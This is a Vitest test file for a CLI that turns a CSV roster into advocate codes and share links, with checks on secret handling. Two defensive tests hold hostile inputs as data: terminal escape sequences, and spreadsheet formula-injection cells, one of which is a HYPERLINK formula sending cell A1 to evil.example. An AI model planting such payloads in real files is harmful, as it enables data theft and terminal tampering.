import { execFileSync, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/lib/csv.ts';
import { runLinks } from '../../src/share/links-command.ts';
import { deriveAdvocateCode } from '../../src/share/keyed-code.ts';

const root = fileURLToPath(new URL('../..', import.meta.url));
const fixtures = fileURLToPath(new URL('./fixtures/', import.meta.url));
/** Made for this run and written nowhere, as a program team's secret is. */
const SECRET = randomBytes(33).toString('base64');

/** Runs `npm run links -- …` the way a comms editor would, against the fixture content folder. */
function links(...args: string[]) {
  return linksWith({ HUB_CODE_SECRET: SECRET }, ...args);
}

/** What the command printed, its exit code, and the rows of the CSV it printed. */
function outcome(status: number | null, stdout: string, stderr: string) {
  const parsed = parseCsv(stdout);
  return { status, stdout, stderr, rows: 'records' in parsed ? parsed.records.map((r) => r.fields) : [] };
}

function environment(env: Record<string, string | undefined>): Record<string, string | undefined> {
  return { ...process.env, HUB_CONTENT_DIR: `${fixtures}content`, HUB_CODE_SECRET: undefined, ...env };
}

/**
 * The command in this process: the function scripts/links.ts calls, given the arguments, the
 * environment and the two output streams (a line each call, as console.log prints it). Starting
 * Node for each run cost about a second; one test below still starts scripts/links.ts.
 */
async function linksWith(env: Record<string, string | undefined>, ...args: string[]) {
  let stdout = '';
  let stderr = '';
  const status = await runLinks(args, {
    stdout: (text) => (stdout += `${text}\n`),
    stderr: (text) => (stderr += `${text}\n`),
    cwd: root,
    env: environment(env),
  });
  return outcome(status, stdout, stderr);
}

/** `npm run links -- …` as a child process, the way people run it. */
function spawnLinks(env: Record<string, string | undefined>, ...args: string[]) {
  const result = spawnSync(process.execPath, ['scripts/links.ts', ...args], { cwd: root, env: environment(env), encoding: 'utf8' });
  return outcome(result.status, result.stdout, result.stderr);
}

describe('npm run links', () => {
  it('prints email, code and the personal hub link for each person', async () => {
    const { status, rows, stderr } = await links(`${fixtures}roster-good.csv`);
    expect(stderr).toBe('');
    expect(status).toBe(0);
    const ana = await deriveAdvocateCode('ana@tidewater-cycles.example', SECRET, 10);
    expect(rows).toEqual([
      ['email', 'code', 'hub_link', 'name'],
      ['ana@tidewater-cycles.example', ana, `https://hub.tidewater-cycles.example/advocacy/?advocate=${ana}`, 'Ana Lim'],
      ['marco.rossi@tidewater-cycles.example', expect.stringMatching(/^[a-z2-7]{10}$/), expect.stringContaining('?advocate='), 'Rossi, Marco'],
    ]);
  });

  it('reports bad rows with their line number on stderr, prints the rest, and exits 1', async () => {
    const { status, rows, stderr } = await links(`${fixtures}roster-with-bad-rows.csv`);
    expect(status).toBe(1);
    expect(rows.map((row) => row[0])).toEqual(['email', 'ana@tidewater-cycles.example', 'marco.rossi@tidewater-cycles.example']);
    expect(stderr).toContain('roster-with-bad-rows.csv:3: no email on this row; the row is skipped');
    expect(stderr).toContain('roster-with-bad-rows.csv:4: "not-an-email" is not an email address; the row is skipped');
    expect(stderr).not.toMatch(/\bat .+:\d+:\d+\)?$/m);
  });

  it('shows escape sequences and bidirectional overrides of a roster cell as \\x1b, \\u202e instead of letting them act on the terminal', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'links-terminal-'));
    try {
      const roster = join(dir, 'roster.csv');
      writeFileSync(roster, 'email,name\n\u001b]0;owned\u0007\u001b[2Jnot-an-email,X\n\u202eevil,Y\n');
      const { status, stderr } = await links(roster);
      expect(status).toBe(1);
      expect(stderr).toContain('roster.csv:2: "\\x1b]0;owned\\x07\\x1b[2Jnot-an-email" is not an email address');
      expect(stderr).toContain('roster.csv:3: "\\u202eevil" is not an email address');
      for (const unsafe of ['\u001b', '\u0007', '\u202e']) expect(stderr).not.toContain(unsafe);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('takes codes from a code column', async () => {
    const { status, rows, stderr } = await links(`${fixtures}roster-codes-only.csv`);
    expect(status).toBe(1);
    expect(rows.slice(1).map((row) => row.slice(0, 3))).toEqual([
      ['', 'team-kl-01', 'https://hub.tidewater-cycles.example/advocacy/?advocate=team-kl-01'],
      ['', 'team-milan-02', 'https://hub.tidewater-cycles.example/advocacy/?advocate=team-milan-02'],
    ]);
    expect(stderr).toContain('roster-codes-only.csv:3: "Bad Code!" is not a valid advocate code');
  });

  it('adds one column per enabled network with each person\'s share link for --post', async () => {
    const { status, rows } = await links(`${fixtures}roster-codes-only.csv`, '--post', 'post-in-a-campaign');
    expect(status).toBe(1);
    const [header, first] = rows;
    expect(header).toEqual(['email', 'code', 'hub_link', 'share_linkedin', 'share_x', 'share_mastodon', 'share_email', 'share_copy_link']);
    const cell = (network: string) => first?.[header!.indexOf(`share_${network}`)] ?? '';
    const page = 'https://hub.tidewater-cycles.example/advocacy/posts/post-in-a-campaign/';
    const tracked = `${page}?utm_source=x&utm_medium=social&utm_campaign=spring-rides&utm_content=post-in-a-campaign&utm_term=team-kl-01`;
    const x = new URL(cell('x'));
    expect(x.searchParams.get('url')).toBe(tracked);
    expect(x.searchParams.get('text')).toMatch(/^(First|Second) X suggestion\. #TidewaterEmployee #RideToWork #SpringRides$/);
    expect(cell('mastodon')).toMatch(/^https:\/\/mastodon\.social\/share\?text=/);
    expect(cell('copy_link')).toBe(tracked.replace('utm_source=x', 'utm_source=copy-link'));
    expect(cell('email')).toMatch(/^mailto:\?subject=Spring%20rides%20start%20today&body=/);
  });

  it('uses --base as the hub address', async () => {
    const { rows } = await links(`${fixtures}roster-codes-only.csv`, '--base', 'https://staging.example.org/hub');
    expect(rows[1]?.[2]).toBe('https://staging.example.org/hub/?advocate=team-kl-01');
  });

  it('stops with a clear message and exit code 2 for an unknown post', async () => {
    const { status, stderr, rows } = await links(`${fixtures}roster-good.csv`, '--post', 'no-such-post');
    expect(status).toBe(2);
    expect(rows).toEqual([]);
    expect(stderr).toMatch(/^--post: there is no post "no-such-post" in .*posts\/en\/ \(looked for no-such-post\.md and no-such-post\.mdx\); posts there: post-in-a-campaign\n$/);
  });

  it('names the file, line and field of a post that does not pass its schema', async () => {
    const { status, stderr } = await links(`${fixtures}roster-good.csv`, '--post', 'post-with-broken-category');
    expect(status).toBe(2);
    expect(stderr).toMatch(/^--post: the post has problems; fix them first \(npm run check lists them all\):\n  .*post-with-broken-category\.md:4: category: "gossip" is not a category of this hub/);
  });

  it('stops with exit code 2 for a roster without an email or code column, a missing file, or no arguments', async () => {
    expect(await links(`${fixtures}roster-without-email-column.csv`)).toMatchObject({ status: 2, stderr: expect.stringContaining('roster-without-email-column.csv:1:') });
    expect(await links(`${fixtures}no-such-roster.csv`)).toMatchObject({ status: 2, stderr: expect.stringContaining('Cannot find the roster file') });
    expect(await links()).toMatchObject({ status: 2, stderr: expect.stringContaining('Usage: npm run links') });
  });

  it('gives the same codes for the same roster and secret, and other codes for another secret', async () => {
    const codes = async (secret: string) => (await linksWith({ HUB_CODE_SECRET: secret }, `${fixtures}roster-good.csv`)).rows.slice(1).map((row) => row[1]);
    const first = await codes(SECRET);
    expect(first).toHaveLength(2);
    expect(await codes(SECRET)).toEqual(first);
    const other = await codes(randomBytes(33).toString('base64'));
    expect(other).toHaveLength(2);
    expect(other.filter((code) => first.includes(code))).toEqual([]);
  });

  it('stops with exit code 2 and says how to create and keep a secret when HUB_CODE_SECRET is missing', async () => {
    const { status, stderr, rows } = await linksWith({}, `${fixtures}roster-good.csv`);
    expect(status).toBe(2);
    expect(rows).toEqual([]);
    expect(stderr).toMatch(/^HUB_CODE_SECRET is not set\./);
    expect(stderr).toContain('openssl rand -base64 48');
    expect(stderr).toContain('password manager');
    expect(stderr).toContain('secret of your CI');
    expect(stderr).not.toMatch(/\bat .+:\d+:\d+\)?$/m);
  });

  it('refuses a secret shorter than 32 characters', async () => {
    const { status, stderr } = await linksWith({ HUB_CODE_SECRET: 'a'.repeat(31) }, `${fixtures}roster-good.csv`);
    expect(status).toBe(2);
    expect(stderr).toMatch(/^HUB_CODE_SECRET is 31 characters long; it must have at least 32/);
  });

  it('needs no secret for a roster of codes', async () => {
    expect((await linksWith({}, `${fixtures}roster-codes-only.csv`)).rows[1]?.[1]).toBe('team-kl-01');
  });

  it('refuses to run when the secret is written in a file of the repository, and names the file but not the secret', async () => {
    const repo = mkdtempSync(join(tmpdir(), 'hub-links-secret-'));
    try {
      const git = (...args: string[]) => execFileSync('git', args, { cwd: repo, stdio: 'ignore' });
      git('init', '-q');
      cpSync(`${fixtures}content`, join(repo, 'content'), { recursive: true });
      writeFileSync(join(repo, '.gitignore'), '.env\n');
      // In an ignored file, where it belongs on the team's machine: fine.
      writeFileSync(join(repo, '.env'), `HUB_CODE_SECRET=${SECRET}\n`);
      git('add', '.');
      const run = () => linksWith({ HUB_CONTENT_DIR: join(repo, 'content'), HUB_CODE_SECRET: SECRET }, `${fixtures}roster-good.csv`);
      expect((await run()).status).toBe(0);

      writeFileSync(join(repo, 'content', 'notes.md'), `The code secret is ${SECRET}, keep it safe.\n`);
      git('add', 'content/notes.md');
      const refused = await run();
      expect(refused.status).toBe(2);
      expect(refused.stdout).toBe('');
      expect(refused.stderr).toMatch(/^HUB_CODE_SECRET is written in a file of the repository.*\n  content\/notes\.md\n/);
      expect(refused.stderr).toContain('create a new one');
      expect(refused.stderr).not.toContain(SECRET);
    } finally {
      rmSync(repo, { recursive: true, force: true });
    }
  });

  it('writes cells a spreadsheet would run as formulas as text (OWASP CSV injection)', async () => {
    const { status, rows } = await links(`${fixtures}roster-with-formulas.csv`);
    expect(status).toBe(0);
    expect(rows.slice(1).map((row) => row[3])).toEqual([
      "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
      "'+1+2",
      "'-2+3",
      "'@SUM(A1:A9)",
      'Ana Lim',
      'Rossi - Marco',
    ]);
    expect(rows[1]?.[0]).toBe("'=1+2@evil.example");
    expect(rows.slice(2).every((row) => !/^[=+\-@\t\r]/.test(row[0] ?? ''))).toBe(true);
  });

  it('is what `npm run links` runs: scripts/links.ts reads the environment, prints the CSV and the skipped rows, and sets the exit code', async () => {
    const scripts = JSON.parse(execFileSync(process.execPath, ['-p', 'JSON.stringify(require("./package.json").scripts)'], { cwd: root, encoding: 'utf8' }));
    expect(scripts.links).toBe('node scripts/links.ts');
    // The other tests call the command in this process; this one starts Node, as `npm run links` does.
    const { status, rows, stderr } = spawnLinks({ HUB_CODE_SECRET: SECRET }, `${fixtures}roster-with-bad-rows.csv`);
    expect(status).toBe(1);
    const ana = await deriveAdvocateCode('ana@tidewater-cycles.example', SECRET, 10);
    expect(rows.slice(0, 2)).toEqual([
      ['email', 'code', 'hub_link', 'name'],
      ['ana@tidewater-cycles.example', ana, `https://hub.tidewater-cycles.example/advocacy/?advocate=${ana}`, 'Ana Lim'],
    ]);
    expect(stderr).toContain('roster-with-bad-rows.csv:3: no email on this row; the row is skipped');
    expect(stderr).toMatch(/2 rows were skipped; 2 printed\.\n$/);
  });
});
